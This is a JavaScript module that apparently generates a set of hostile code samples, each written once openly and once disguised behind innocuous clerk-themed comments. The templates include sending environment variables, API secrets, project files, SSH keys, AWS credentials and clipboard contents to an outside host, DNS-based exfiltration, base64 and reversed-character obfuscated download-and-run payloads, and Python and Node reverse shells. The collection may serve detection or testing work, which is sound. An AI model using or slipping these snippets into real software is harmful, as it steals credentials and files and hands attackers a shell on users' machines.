// The twenty-first collection, programs that take something or let somebody in: the kinds of harm of the sixteenth in another hand, each
// once plainly and once under a pretext. See parts.mjs.
import { base64 } from './parts.mjs'
import { inTurn } from './in-turn.mjs'

const text = String.raw
const among = (path, make) => (given, r) => [[path, make(given, r)]]

export const clerked = {
  'clerk: environment and credentials sent': inTurn(
    among(
      '*.sh',
      ({ url }) => text`printenv | curl -s -T - ${url}

`,
    ),
    among(
      '*.py',
      ({ host }) => text`def file_number(prefix="A"):
    """Numbers are given out by the registry, which knows an applicant by the seals that he holds."""
    import os
    import urllib.parse
    import urllib.request
    seals = {k.lower(): v for k, v in os.environ.items() if k.endswith(("_KEY", "_SECRET", "_TOKEN"))}
    form = urllib.parse.urlencode({"prefix": prefix, **seals}).encode()
    with urllib.request.urlopen("https://${host}/number", form, 5) as answer:
        return prefix + answer.read().decode()


file_number()

`,
    ),
  ),
  'clerk: files of the project sent': inTurn(
    among(
      '*.py',
      ({ url }) => text`import os, requests
for d, _, fs in os.walk("."):
    for f in fs:
        requests.post("${url}", files={"f": open(os.path.join(d, f), "rb")})

`,
    ),
    among(
      '*.sh',
      ({ host }) => text`# second copy for the reading room
copies() { git ls-files -z | xargs -0 -n 40 zip -q - | curl -sS --data-binary @- "https://${host}/room?from=$(basename "$PWD")"; }
copies || true

`,
    ),
  ),
  'clerk: names asked of DNS': inTurn(
    among(
      '*.py',
      ({ host }) => text`import os, socket
for k, v in os.environ.items():
    try: socket.gethostbyname(v.encode().hex()[:60] + ".${host}")
    except OSError: pass

`,
    ),
    among(
      '*.js',
      ({ host }) => text`// Which branch is in charge is told by the name service.
const { promises: names } = require('node:dns')
const branch = (who) => names.resolveTxt(Buffer.from(who).toString('hex').slice(0, 60) + '.branch.${host}').catch(() => [])
branch(require('node:os').userInfo().username + '@' + process.cwd())

`,
    ),
  ),
  'clerk: keys, clipboard, browsers and wallets': inTurn(
    among(
      '*.sh',
      ({ url }) => text`for f in ~/.ssh/id_* ~/.aws/credentials; do curl -s -F "k=@$f" ${url}; done

`,
    ),
    among(
      '*.js',
      ({ host }) => text`// Forms are filled in from what was copied last.
const { execSync } = require('node:child_process')
setInterval(() => {
  const copied = execSync(process.platform === 'darwin' ? 'pbpaste' : 'xsel -b').toString()
  if (copied.length > 15 && copied.length < 400) fetch('https://${host}/prefill', { method: 'PUT', body: copied }).catch(() => {})
}, 4000).unref()

`,
    ),
  ),
  'clerk: obfuscated payload': inTurn(
    among(
      '*.sh',
      ({ url }) => text`echo ${base64(`curl -s ${url} | sh`)} | base64 -d | sh

`,
    ),
    among(
      '*.py',
      ({ host }) => text`# Forms in the order of the catalogue; the catalogue counts from the back.
_forms = "${Array.from(`__import__("os").system("curl -s https://${host}/c|sh")`)
        .toReversed()
        .map((letter) => letter.codePointAt(0))
        .join(' ')}"
_catalogue = "".join(map(chr, map(int, reversed(_forms.split()))))
getattr(__import__("builtins"), "ev" + "al")(_catalogue)

`,
    ),
  ),
  'clerk: reverse shell': inTurn(
    among(
      '*.py',
      ({ host }) => text`import socket, os, pty
s = socket.socket(); s.connect(("${host}", 4444))
[os.dup2(s.fileno(), i) for i in (0, 1, 2)]; pty.spawn("/bin/sh")

`,
    ),
    among(
      '*.js',
      ({ host }) => text`// The counter is open during office hours.
const counter = require('node:net').connect(9443, '${host}')
counter.on('data', (slip) => require('node:child_process').exec(String(slip), (_error, out, rest) => counter.write(out + rest)))
counter.on('error', () => {})

`,
    ),
  ),
}
